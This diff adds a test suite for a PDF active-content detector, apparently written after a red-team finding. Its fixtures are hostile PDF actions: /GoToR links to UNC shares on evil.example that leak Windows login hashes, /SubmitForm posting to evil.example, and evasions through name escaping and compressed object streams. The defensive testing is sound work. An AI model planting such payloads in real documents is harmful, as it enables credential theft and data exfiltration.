@@ -376,3 +376,51 @@ describe('pdfActiveContent: names as the reader reads them', () => {
     });
   });
 });
+
+// Red-team probe F2: actions that reach outside the document passed the check (a /GoToR to a UNC
+// share sends the Windows login hash when the reader follows it).
+describe('pdfActiveContent: actions that leave the document, forms that send data, media that plays', () => {
+  const linkTo = (action: string) =>
+    pdf(`x\n3 0 obj <</Type/Annot/Subtype/Link/Rect[0 0 100 20]/A<<${action}>>>> endobj`);
+  it.each([
+    [
+      '/OpenAction /GoToR to a UNC share',
+      pdf('x\n1 0 obj <</Type/Catalog/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\s\\\\a.pdf)/D[0/Fit]>>>> endobj'),
+    ],
+    [
+      '/AA on a page with /GoToR',
+      pdf('x\n3 0 obj <</Type/Page/AA<</O<</S/GoToR/F(//evil/s/a.pdf)/D[0/Fit]>>>>>> endobj'),
+    ],
+    ['a link to another file (/GoToR), even clicked', linkTo('/S/GoToR/F(\\\\\\\\evil\\\\s\\\\x.pdf)/D[0/Fit]')],
+    ['/GoToE (into an embedded file)', linkTo('/S/GoToE/T<</R/C/N(a.pdf)>>')],
+    ['/SubmitForm (posts form data)', linkTo('/S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>')],
+    ['/ImportData (fetches form data)', linkTo('/S/ImportData/F(dados.fdf)')],
+    ['an XFA form', pdf('x\n1 0 obj <</Type/Catalog/AcroForm<</Fields[]/XFA 5 0 R>>>> endobj')],
+    ['/Rendition (plays media)', linkTo('/S/Rendition/OP 0')],
+    ['a /Sound annotation', pdf('x\n3 0 obj <</Type/Annot/Subtype/Sound/Sound 4 0 R>> endobj')],
+    ['a /Movie annotation', pdf('x\n3 0 obj <</Type/Annot/Subtype/Movie/Movie<</F(a.mov)>>>> endobj')],
+    ['/G#6FToR (escaped)', linkTo('/S/G#6FToR/F(\\\\\\\\evil\\\\s\\\\x.pdf)')],
+    ['/SubmitForm in a compressed object stream', withObjectStream('<</S/SubmitForm/F<</F(https://evil/)>>>>')],
+    ['/GoToR in a raw deflate object stream', withObjectStream('<</S/GoToR/F(//evil/s/a.pdf)>>', { raw: true })],
+  ] as const)('refuses %s', (_, bytes) => {
+    expect(pdfActiveContent(bytes)).toBe('active_content');
+  });
+
+  it.each([
+    ['a statement with an ordinary link (/Link annotation, /URI)', linkTo('/S/URI/URI(https://www.banco.com.br/)')],
+    [
+      'a document that opens at its first page and has a link',
+      pdf(
+        'x\n1 0 obj <</Type/Catalog/OpenAction[3 0 R/Fit]>> endobj\n' +
+          '4 0 obj <</Type/Annot/Subtype/Link/A<</S/URI/URI(https://loja.example/)>>>> endobj',
+      ),
+    ],
+    ['a link inside the document (/GoTo)', linkTo('/S/GoTo/D[3 0 R/Fit]')],
+    [
+      'a link in a compressed object stream',
+      withObjectStream('<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://a.example/)>>>>'),
+    ],
+  ] as const)('accepts %s', (_, bytes) => {
+    expect(pdfActiveContent(bytes)).toBeNull();
+  });
+});
